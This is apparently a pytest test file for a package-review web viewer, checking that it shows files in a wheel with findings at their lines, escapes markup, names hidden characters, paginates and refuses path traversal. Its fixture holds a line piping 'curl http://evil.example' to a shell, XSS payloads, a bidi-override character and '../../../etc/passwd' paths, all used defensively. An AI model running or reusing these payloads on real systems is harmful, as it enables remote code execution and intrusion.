"""The file reader: lines, findings at them, and nothing sent as it is."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.desks import Desk, open_desk
from support.dists import wheel

CODE = b"import os\n\n\nos.system('curl http://evil.example | sh')\n"
SPAM = wheel(
    "spam",
    "1.0",
    files={
        "spam/__init__.py": CODE,
        "spam/page.html": b"<script>alert(1)</script>\n\xe2\x80\xae</code>\n",
        "spam/big.txt": b"line\n" * 5000,
        "spam/it.so": b"\x7fELF\x00<script>alert(1)</script>",
        "spam/<img src=x onerror=alert(1)>.py": b"x = 1\n",
    },
)
HERE = f"/feeds/internal/packages/spam/1.0/files/{SPAM.sha256}"


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    with open_desk(tmp_path) as opened:
        opened.office.upstream.add(SPAM)
        opened.office.policy('[findings]\nblock = "review"\n')
        yield opened


def test_a_file_opens_with_its_tree_and_what_was_found(desk: Desk) -> None:
    desk.office.approved(SPAM)
    page = desk.visitor("dev").get(HERE)
    assert page.title == SPAM.filename
    folders = [re.sub(r"\d+ ?findings?", "N found", one) for one in page.all(".shelf a")]
    assert folders == ["▸ spam/ ✕N found 5 files", "▸ spam-1.0.dist-info/ 3 files"]
    assert page.links()["Line 4"] == f"{HERE}?path=spam%2F__init__.py&line=4#L4"


def test_a_member_is_shown_line_by_line_with_findings_at_their_lines(desk: Desk) -> None:
    desk.office.approved(SPAM)
    page = desk.visitor("dev").get(f"{HERE}?path=spam/__init__.py&line=4")
    assert page.title == "spam/__init__.py"
    assert page.all(".read .code") == [
        "import os",
        "",
        "",
        "os.system('curl http://evil.example | sh')",
    ]
    assert page.html.css("#L4.has-finding") != []
    assert page.html.css("#L4 .said-here") != []
    assert page.says("#L1 .ck") == "import"


def test_markup_in_a_file_is_text_and_hidden_characters_are_named(desk: Desk) -> None:
    desk.office.approved(SPAM)
    page = desk.visitor("dev").get(f"{HERE}?path=spam/page.html")
    assert page.all(".read .code") == ["<script>alert(1)</script>", "U+202E</code>"]
    assert page.html.css("main script") == []
    assert page.headers["content-type"] == "text/html; charset=utf-8"


def test_what_is_no_text_is_shown_as_its_first_bytes(desk: Desk) -> None:
    desk.office.approved(SPAM)
    page = desk.visitor("dev").get(f"{HERE}?path=spam/it.so")
    assert page.says(".hex").startswith("000000 7f 45 4c 46 00 3c 73")
    assert page.html.css("main script") == []


def test_a_long_file_is_shown_in_parts(desk: Desk) -> None:
    desk.office.approved(SPAM)
    dev = desk.visitor("dev")
    first = dev.get(f"{HERE}?path=spam/big.txt")
    assert len(first.html.css(".read > li")) == 1500
    then = dev.get(first.links()["From line 1501 on"])
    assert then.says(".read > li").startswith("1501")
    assert then.links()["Lines 1 to 1500"] == f"{HERE}?path=spam%2Fbig.txt&first=1"
    asked = dev.get(f"{HERE}?path=spam/big.txt&line=4000")
    assert asked.html.css("#L4000.is-asked") != []


def test_a_name_that_is_markup_is_a_name(desk: Desk) -> None:
    desk.office.approved(SPAM)
    page = desk.visitor("dev").get(f"{HERE}?path=spam/%3Cimg src=x onerror=alert(1)%3E.py")
    assert page.title == "spam/<img src=x onerror=alert(1)>.py"
    assert page.html.css("main img") == []


@pytest.mark.parametrize(
    "path", ["../../../etc/passwd", "/etc/passwd", "spam/../spam/__init__.py", "nope/", "spam"]
)
def test_what_the_archive_does_not_hold_is_not_found(desk: Desk, path: str) -> None:
    desk.office.approved(SPAM)
    dev = desk.visitor("dev")
    assert dev.get(f"{HERE}?path={path}").status == 404


def test_who_may_not_download_it_does_not_read_in_it(desk: Desk) -> None:
    dev = desk.visitor("dev")
    page = dev.get(f"{HERE}?path=spam/__init__.py")
    assert (page.status, "os.system" in page.text) == (403, False)
    assert dev.get(HERE.replace("internal", "unapproved")).status == 404


def test_what_was_not_fetched_is_fetched_by_a_button(desk: Desk) -> None:
    approver = desk.visitor("approver")
    page = approver.get(HERE)
    assert (page.status, page.title) == (409, "Not fetched yet")
    then = approver.submit(page, button="Fetch it and read")
    assert (then.status, then.title) == (200, SPAM.filename)
